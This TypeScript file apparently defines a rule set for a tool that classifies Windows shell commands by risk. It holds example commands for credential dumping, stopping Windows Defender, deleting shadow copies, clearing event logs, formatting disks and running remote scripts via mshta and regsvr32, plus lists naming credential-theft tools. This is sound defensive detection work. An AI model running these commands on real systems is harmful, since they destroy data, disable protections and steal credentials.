import { pathFacts } from '../analysis/pathEffects';
import { noData, unknownData } from '../analysis/word';
import { rule } from '../model/rule';
import type { Family } from './family';
import {
  forEachFile,
  certutil,
  fileSystemUtility,
  icacls,
  net,
  netsh,
  registry,
  robocopy,
  scheduledTasks,
  serviceControl,
  taskKill,
  wmic,
} from './windowsChecks';

export const windowsTools: Family = {
  for: 'windows',
  rules: {
    'registry.change': rule(
      'caution',
      'registry',
      'Changes the registry.',
      [{ shell: 'cmd', command: 'reg add HKCU\\Software\\A /v b /d c' }],
      { misses: [{ shell: 'cmd', command: 'reg query HKCU\\Software\\A' }] },
    ),
    'registry.delete': rule(
      'dangerous',
      'registry',
      'Deletes from the registry.',
      [{ shell: 'cmd', command: 'reg delete HKCU\\Software\\A /f' }],
      { misses: [{ shell: 'cmd', command: 'reg query HKCU\\Software\\A' }], remedy: 'save it first with `reg export`' },
    ),
    'registry.sensitive': rule(
      'dangerous',
      'persistence',
      'Changes a registry key that starts programs or protects the system.',
      [{ shell: 'cmd', command: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b.exe' }],
      { misses: [{ shell: 'cmd', command: 'reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' }] },
    ),
    'windows.credential-dump': rule(
      'dangerous',
      'credential-access',
      'Copies passwords or password hashes of the system.',
      [
        { shell: 'cmd', command: 'reg save HKLM\\SAM sam.hiv' },
        { shell: 'cmd', command: 'mimikatz.exe sekurlsa::logonpasswords' },
      ],
      { misses: [{ shell: 'cmd', command: 'reg query HKLM\\SOFTWARE' }] },
    ),
    'windows.schedule': rule(
      'dangerous',
      'persistence',
      'Creates, changes or deletes a scheduled task.',
      [{ shell: 'cmd', command: 'schtasks /create /sc onlogon /tn a /tr b.exe' }],
      { misses: [{ shell: 'cmd', command: 'schtasks /query' }] },
    ),
    'windows.protection-off': rule(
      'dangerous',
      'defence-evasion',
      'Stops a service that protects or watches the machine.',
      [
        { shell: 'cmd', command: 'sc stop WinDefend' },
        { shell: 'cmd', command: 'net stop mpssvc' },
      ],
      {
        misses: [
          { shell: 'cmd', command: 'sc query WinDefend' },
          { shell: 'cmd', command: 'net stop Spooler' },
        ],
      },
    ),
    'windows.service-delete': rule(
      'dangerous',
      'service',
      'Deletes a service.',
      [{ shell: 'cmd', command: 'sc delete a' }],
      { misses: [{ shell: 'cmd', command: 'sc query' }] },
    ),
    'windows.account': rule(
      'dangerous',
      'account',
      'Changes users, groups or password rules.',
      [
        { shell: 'cmd', command: 'net user a b /add' },
        { shell: 'cmd', command: 'net localgroup administrators a /add' },
      ],
      {
        misses: [
          { shell: 'cmd', command: 'net user' },
          { shell: 'cmd', command: 'net localgroup administrators' },
        ],
      },
    ),
    'windows.share': rule(
      'dangerous',
      'network-config',
      'Shares folders of this machine or ends sessions.',
      [{ shell: 'cmd', command: 'net share a=C:\\' }],
      { misses: [{ shell: 'cmd', command: 'net share' }] },
    ),
    'windows.download': rule(
      'caution',
      'network',
      'Downloads with a system tool.',
      [{ shell: 'cmd', command: 'certutil -urlcache -f https://example.com/a a' }],
      { misses: [{ shell: 'cmd', command: 'certutil -hashfile a SHA256' }] },
    ),
    'windows.decode': rule(
      'dangerous',
      'obfuscation',
      'Decodes or copies hidden data with a system tool.',
      [{ shell: 'cmd', command: 'certutil -decode a.b64 a.exe' }],
      { misses: [{ shell: 'cmd', command: 'certutil -hashfile a' }] },
    ),
    'windows.lolbin': rule(
      'dangerous',
      'lolbin',
      'Runs code through a system tool in a way attacks do.',
      [
        { shell: 'cmd', command: 'mshta https://example.com/a.hta' },
        { shell: 'cmd', command: 'regsvr32 /s /u /i:https://example.com/a.sct scrobj.dll' },
      ],
      {
        misses: [{ shell: 'cmd', command: 'rundll32 /?' }],
        effect: 'execute',
        scope: 'system',
        reversibility: 'unknown',
      },
    ),
    'windows.access-wide': rule(
      'dangerous',
      'permissions',
      'Changes access to many files or to system folders.',
      [
        { shell: 'cmd', command: 'icacls C:\\ /grant Everyone:F /T' },
        { shell: 'cmd', command: 'takeown /f C:\\Windows /r' },
      ],
      { misses: [{ shell: 'cmd', command: 'icacls a.txt' }] },
    ),
    'windows.mirror': rule(
      'dangerous',
      'filesystem-destroy',
      'Deletes at the target whatever is not in the source, or the source itself.',
      [{ shell: 'cmd', command: 'robocopy C:\\a D:\\b /MIR' }],
      {
        misses: [
          { shell: 'cmd', command: 'robocopy a b /L /MIR' },
          { shell: 'cmd', command: 'robocopy a b /E' },
        ],
        remedy: 'run it with `/L` first',
      },
    ),
    'windows.backup-delete': rule(
      'critical',
      'disk',
      'Deletes the backups and shadow copies of the machine.',
      [
        { shell: 'cmd', command: 'vssadmin delete shadows /all' },
        { shell: 'cmd', command: 'wbadmin delete catalog -quiet' },
      ],
      { misses: [{ shell: 'cmd', command: 'vssadmin list shadows' }] },
    ),
    'windows.volume': rule(
      'dangerous',
      'disk',
      'Changes a volume below its files.',
      [
        { shell: 'cmd', command: 'fsutil usn deletejournal /d c:' },
        { shell: 'cmd', command: 'chkdsk C: /f' },
      ],
      {
        misses: [
          { shell: 'cmd', command: 'fsutil fsinfo drives' },
          { shell: 'cmd', command: 'chkdsk C:' },
        ],
      },
    ),
    'windows.format': rule(
      'critical',
      'disk',
      'Formats or wipes a disk.',
      [
        { shell: 'cmd', command: 'format C: /y' },
        { shell: 'cmd', command: 'diskpart /s a.txt' },
      ],
      { misses: [{ shell: 'cmd', command: 'format /?' }] },
    ),
    'windows.boot': rule(
      'dangerous',
      'boot-recovery',
      'Changes how Windows starts or recovers.',
      [
        { shell: 'cmd', command: 'bcdedit /set {default} recoveryenabled no' },
        { shell: 'cmd', command: 'reagentc /disable' },
      ],
      {
        misses: [
          { shell: 'cmd', command: 'bcdedit /enum' },
          { shell: 'cmd', command: 'bcdedit' },
        ],
      },
    ),
    'windows.log': rule(
      'dangerous',
      'defence-evasion',
      'Clears or switches off logs and auditing.',
      [
        { shell: 'cmd', command: 'wevtutil cl Security' },
        { shell: 'cmd', command: 'auditpol /clear /y' },
      ],
      {
        misses: [
          { shell: 'cmd', command: 'wevtutil qe System' },
          { shell: 'cmd', command: 'auditpol /get /category:*' },
        ],
      },
    ),
    'windows.wipe': rule(
      'critical',
      'disk',
      'Overwrites free space or encrypts files.',
      [{ shell: 'cmd', command: 'cipher /w:C:' }],
      { misses: [{ shell: 'cmd', command: 'cipher /c a' }] },
    ),
  },
  commands: {
    'reg regedit regini': { act: 'registry.change', style: 'slash', check: registry },
    schtasks: { act: 'windows.schedule', style: 'slash', check: scheduledTasks },
    sc: { act: 'change', style: 'slash', check: serviceControl },
    'net net1': { act: 'change', style: 'slash', check: net },
    netsh: { act: 'network.configure', style: 'slash', check: netsh },
    certutil: { act: 'config', style: 'slash', check: certutil },
    'icacls cacls xcacls': { act: 'permissions.access-list', style: 'slash', check: icacls },
    takeown: {
      act: 'permissions.access-list',
      style: 'slash',
      values: '/f /u /p /s',
      when: [
        ['/r', 'windows.access-wide'],
        ['/f', 'windows.access-wide', /^[a-z]:\\(?:windows|program|$)/i],
        ['/?', '@help'],
      ],
    },
    robocopy: { act: 'write', style: 'slash', check: robocopy, when: [['/?', '@help']] },
    xcopy: {
      act: 'write',
      style: 'slash',
      when: [
        ['/?', '@help'],
        ['/l', '@dry-run'],
      ],
    },
    wmic: { act: 'interactive', style: 'slash', check: wmic },
    fsutil: { act: 'write', style: 'slash', check: fileSystemUtility },
    'taskkill tskill': {
      act: 'kill',
      style: 'slash',
      values: '/im /pid /fi /s /u /p',
      check: taskKill,
      when: [['/?', '@help']],
    },
    'tasklist qprocess query quser qwinsta qappsrv systeminfo getmac nbtstat pathping tracert nltest driverquery gpresult whoami dsquery dsget msinfo32 winver where help nslookup ping netstat hostname arp sigverif repadmin dcdiag dxdiag tree findstr find fc comp more sort choice sxstrace adfind':
      { act: 'read', style: 'dos', help: '/?' },
    ipconfig: { act: 'read', style: 'slash', when: [['/release /renew /flushdns /registerdns /setclassid', 'change']] },
    route: {
      act: 'read',
      style: 'dos',
      subs: [
        ['print', 'read'],
        ['add delete change', 'network.configure'],
      ],
      when: [['-f', 'network.flush']],
      bare: 'read',
      otherwise: 'read',
    },
    w32tm: { act: 'read', style: 'slash', when: [['/resync /config /register /unregister', 'config']] },
    powercfg: {
      act: 'config',
      style: 'slash',
      bare: 'read',
      when: [
        [
          '/list /l /query /q /? /a /availablesleepstates /devicequery /energy /batteryreport /requests /lastwake /waketimers /getactivescheme',
          '@cancel',
        ],
        ['/h /hibernate /x /change /setactive /delete', 'config'],
      ],
    },
    'setspn klist pnputil manage-bde': {
      act: 'config',
      style: 'dos',
      when: [
        ['-l -q -t -status /enum-devices /enum-drivers -f', '@cancel'],
        ['-off -delete -wipefreespace -lock', 'windows.volume'],
      ],
      bare: 'read',
    },
    openfiles: { act: 'read', style: 'slash', when: [['/disconnect', 'kill']] },
    vssadmin: {
      act: 'windows.volume',
      subs: [
        ['list', 'read'],
        ['delete resize', 'windows.backup-delete'],
        ['create', 'windows.credential-dump'],
      ],
      otherwise: 'windows.volume',
    },
    diskshadow: { act: 'windows.backup-delete', style: 'slash', help: '/?' },
    wbadmin: {
      act: 'change',
      subs: [
        ['get', 'read'],
        ['delete', 'windows.backup-delete'],
        ['start enable disable', 'change'],
      ],
      otherwise: 'change',
    },
    'format format.com diskpart': { act: 'windows.format', style: 'slash', help: '/?' },
    'chkdsk chkntfs defrag convert sfc dism': {
      act: 'read',
      style: 'slash',
      when: [
        ['/f /r /x /b /spotfix /offlinescanandfix /scannow /fs:ntfs', 'windows.volume'],
        ['/online', 'config'],
        ['/?', '@help'],
      ],
    },
    'bcdedit bcdboot bootrec bootsect': {
      act: 'windows.boot',
      style: 'slash',
      bare: 'read',
      when: [['/enum /v /?', '@cancel']],
    },
    reagentc: { act: 'windows.boot', style: 'slash', when: [['/info /?', '@cancel']] },
    wevtutil: {
      act: 'windows.log',
      subs: [
        ['qe query-events el enum-logs gl get-log gli get-log-info ep enum-publishers gp get-publisher', 'read'],
        ['epl export-log al archive-log', 'write'],
      ],
      otherwise: 'windows.log',
    },
    auditpol: { act: 'windows.log', style: 'slash', when: [['/get /list /?', '@cancel']] },
    cipher: {
      act: 'write',
      style: 'slash',
      when: [
        ['/w', 'windows.wipe'],
        ['/e', 'windows.wipe'],
        ['/c /y /?', '@cancel'],
      ],
    },
    'sdelete sdelete64': { act: 'delete.shred', style: 'dos' },
    mshta: { act: 'windows.lolbin' },
    rundll32: { act: 'windows.lolbin', style: 'slash', when: [['/?', '@cancel']] },
    'regsvr32 regasm regsvcs installutil cmstp odbcconf presentationhost pcalua syncappvpublishingserver infdefaultinstall ieexec msdt hh fodhelper eventvwr computerdefaults sdclt wsreset mavinject desktopimgdownldr extrac32 esentutl appvlp dnscmd msxsl rcsi csi xwizard tttracer diantz dfsvc register-cimprovider scriptrunner runscripthelper wuauclt squirrel update te winrm winrs psexec psexec64 paexec ntdsutil':
      { act: 'windows.lolbin', style: 'dos', when: [['/?', '@cancel']], help: '/?' },
    'mimikatz procdump procdump64 comsvcs lazagne pwdump gsecdump wce rubeus sharphound bloodhound seatbelt winpeas xordump nanodump dumpert safetykatz hashdump secretsdump secretsdump.py pypykatz lsassy sharpdpapi kekeo':
      { act: 'windows.credential-dump', style: 'dos' },
    'wscript cscript': {
      act: 'exec.script',
      style: 'dos',
      help: '/?',
      check: (invocation, context) => {
        const script = invocation.args.operands[0];
        if (
          script !== undefined &&
          /^(?:https?:|\\\\)|\.(?:vbs|vbe|jse)$/i.test(script.value) &&
          /^(?:https?:|\\\\)/i.test(script.value)
        ) {
          context.report('windows.lolbin', script.span);
        }
        return undefined;
      },
    },
    bitsadmin: {
      act: 'windows.download',
      style: 'slash',
      when: [
        ['/list /info /?', '@cancel'],
        ['/setnotifycmdline', 'windows.lolbin'],
      ],
      check: (invocation, context) => {
        const file = invocation.words.at(-1);
        if (file !== undefined) {
          context.scope.files.set(pathFacts(file, context).path, { ...unknownData, network: true });
        }
        return undefined;
      },
    },
    msiexec: {
      act: 'install',
      style: 'dos',
      values: '/i /x /p',
      when: [
        ['/i', 'remote.package-url', /^https?:/i],
        ['/x /uninstall', 'install'],
      ],
      check: (invocation, context) => {
        if (invocation.words.some((word) => /^https?:/i.test(word.value))) {
          context.report('remote.package-url', invocation.span);
        }
        return undefined;
      },
    },
    'winget choco scoop': {
      act: 'install',
      bare: 'read',
      subs: [
        [
          'list search show info outdated source/list bucket/list export status help cat which known depends home config/list hash',
          'read-remote',
        ],
      ],
      otherwise: 'install',
    },
    wsl: {
      act: 'execute',
      style: 'long',
      values: '-d --distribution -u --user',
      when: [
        ['-l --list --status --version --help', '@cancel'],
        ['--unregister', 'windows.volume'],
      ],
      check: (invocation, context) => {
        const rest = invocation.args.operands;
        const first = rest[0];
        if (first !== undefined) {
          context.shellText(rest.map((word) => word.value).join(' '), 'bash', first, noData);
        }
        return undefined;
      },
    },
    runas: {
      act: 'privilege.sudo',
      style: 'slash',
      check: (invocation, context) => {
        const command = invocation.args.operands[0];
        if (command !== undefined) {
          context.shellText(command.value, 'cmd', command, noData);
        }
        return undefined;
      },
    },
    forfiles: {
      act: 'read',
      style: 'slash',
      values: '/p /m /c /d',
      when: [['/c', 'exec.inline']],
      check: forEachFile,
    },
    setx: {
      act: 'config',
      style: 'slash',
      check: (invocation, context) => {
        const [name, value] = invocation.args.operands;
        if (name !== undefined) {
          context.assignEnvironment(name.value, value?.value ?? '', invocation.span, true);
        }
        return undefined;
      },
    },
    shutdown: { act: 'power', style: 'dos', when: [['/a -a /? -c', '@cancel']] },
    'logoff tsdiscon rwinsta lock': { act: 'change' },
    gpupdate: { act: 'change', style: 'slash' },
    'conhost start-wait': { act: 'read', style: 'slash', runs: { how: 'words' } },
    'dsadd dsmod dsmove dsrm netdom djoin redircmp csvde ldifde': {
      act: 'windows.account',
      style: 'dos',
      when: [['/?', '@cancel']],
    },
    'explorer notepad mspaint calc write wordpad taskmgr perfmon services.msc eventvwr.msc devmgmt.msc control mstsc iexplore msedge':
      { act: 'interactive', style: 'dos' },
    'compact expand makecab extrac replace print subst label mklink mountvol recover ktmutil': {
      act: 'write',
      style: 'dos',
      when: [['/? /q', '@help']],
      bare: 'read',
    },
    cmdkey: {
      act: 'config',
      style: 'slash',
      when: [
        ['/list /?', '@cancel'],
        ['/delete', 'delete.keys'],
      ],
    },
    vaultcmd: { act: 'secret.read', style: 'slash' },
    'tscon change chglogon': { act: 'windows.account' },
    label: { act: 'config', style: 'slash' },
  },
};
